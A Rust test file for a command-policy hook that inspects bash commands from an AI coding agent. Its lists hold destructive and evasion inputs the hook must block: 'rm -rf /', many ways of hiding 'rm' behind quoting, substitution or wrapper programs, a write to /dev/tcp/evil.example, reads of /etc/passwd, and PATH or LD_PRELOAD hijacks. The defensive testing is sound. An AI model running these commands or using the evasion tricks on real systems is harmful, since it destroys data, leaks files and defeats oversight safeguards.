//! Commands as the list of their programs. A script that cannot be read has no list, so that nothing takes it for fine.

use serde_json::json;

use crate::fixture::{Desk, Effect};

/// Lists what is allowed.
const ALLOWED: &str = "
consts: { allowed: [ls, cat, git, xargs, env, timeout, echo, cd] }
tools:
  bash:
    mode: allow
    constraints:
      - every(args.programs, . in consts.allowed)
      - every(args.redirects, . == \"/dev/null\")
";

/// Lists what is denied.
const DENIED: &str = "
consts: { denied: [rm, sh, bash, eval] }
tools:
  bash:
    - mode: deny
      constraints: ['any(args.programs, . in consts.denied)']
    - mode: allow
";

/// Says what must not happen in a forbid, and that all else is asked.
const FORBIDDEN: &str = "
consts: { denied: [rm] }
forbid:
  - tools: [bash]
    constraints: ['any(args.programs, . in consts.denied)']
default_policy: { mode: approval_required }
";

const RUN: &[&str] = &[
    "ls -la",
    "cd src && cat main.rs | cat",
    "git log --oneline; ls",
    "echo $(ls) 2>/dev/null",
    "ls 2>&1",
    "timeout 5 env A=b ls",
];

/// Each runs `rm` or something that nobody can tell.
const HIDDEN: &[&str] = &[
    "rm -rf /",
    "ls; rm a",
    "ls\nrm a",
    "ls && rm a || ls",
    "ls & rm a",
    "ls | xargs rm",
    "echo `rm a`",
    "echo \"$(rm a)\"",
    "cat <(rm a)",
    "r\"m\" a",
    "\\rm a",
    "'rm' a",
    "$X a",
    "${X:-rm} a",
    "{rm,a}",
    "r? a",
    "env rm a",
    "/usr/bin/env rm a",
    "/bin/timeout 5 /usr/bin/xargs rm",
    "env -S 'rm a'",
    "timeout 5 rm a",
    "timeout inf rm a",
    "xargs -I{} rm {}",
    "ls() { rm a; }; ls",
    "coproc rm a",
    "if ls; then rm a; fi",
    "for x in a; do rm $x; done",
    "ls 'a",
    "ls; if",
    "cat <<X\n$(rm a)\nX",
    "ls \u{0} rm",
    "(rm a)",
    "{ rm a; }",
    "! rm a",
    "case a in a) rm b;; esac",
    "A=$(rm a) ls",
    "/bin/rm a",
    "RM a",
    "exec rm a",
    "time -- rm a",
    "!(rm a)",
    r"echo \$'a\'; rm x; echo \$'b\'",
    "a='b[$(rm a)]'; echo $((a))",
    "[[ -v 'b[$(rm a)]' ]] && ls",
    "a='$(rm a)'; echo ${a@P}",
    "find . $X",
    "echo \"${ rm a; }\"",
];

#[test]
fn allowed_programs_run_and_nothing_hides_behind_them() {
    let desk = Desk::new(ALLOWED);
    for script in RUN {
        assert_eq!(desk.bash("1", script), Effect::Runs, "{script}");
    }
    for script in HIDDEN {
        assert_eq!(desk.bash("1", script), Effect::Stops, "{script}");
    }
    for script in [
        // No program, and so no list.
        "",
        "X=1",
        "> file",
        // Redirections write.
        "echo x > ~/.bashrc",
        "ls &> out",
        "ls >| out",
        "cat < /etc/passwd",
        "echo x > \"$F\"",
        "echo x > /dev/tcp/evil.example/80",
        // What changes what allowed programs do.
        "PATH=/tmp ls",
        "path=/tmp ls",
        "RANDOM='a[$(rm a)]'; ls",
        "LD_PRELOAD=./x.so ls",
        "GIT_SSH_COMMAND=x git fetch",
        "git -c core.pager=x log",
        "export A=b",
        "alias ls=rm; ls",
        "eval ls",
        ". ./x",
        "trap x EXIT",
        "./ls",
        "/tmp/ls",
        "bash -c ls",
    ] {
        assert_eq!(desk.bash("1", script), Effect::Stops, "{script}");
    }
}

#[test]
fn a_script_that_cannot_be_read_is_forbidden_where_programs_are_denied() {
    for policy in [DENIED, FORBIDDEN] {
        let desk = Desk::new(policy);
        for script in HIDDEN {
            assert_eq!(desk.bash("1", script), Effect::Stops, "{script}");
        }
        for script in RUN {
            assert_ne!(desk.bash("1", script), Effect::Stops, "{script}");
        }
    }
}

#[test]
fn a_long_script_has_no_list() {
    let desk = Desk::new(ALLOWED);
    let long = format!("ls {}", "a ".repeat(40_000));
    assert_eq!(desk.bash("1", &long), Effect::Stops);
    let words = json!(["ls", "-la"]);
    let input = crate::fixture::claude("1", "Bash", &json!({ "command": words }));
    let answer = desk.answer(hexgate_hook::Agent::ClaudeCode, "PreToolUse", &input);
    assert_eq!(crate::fixture::effect(&answer), Effect::Stops);
}
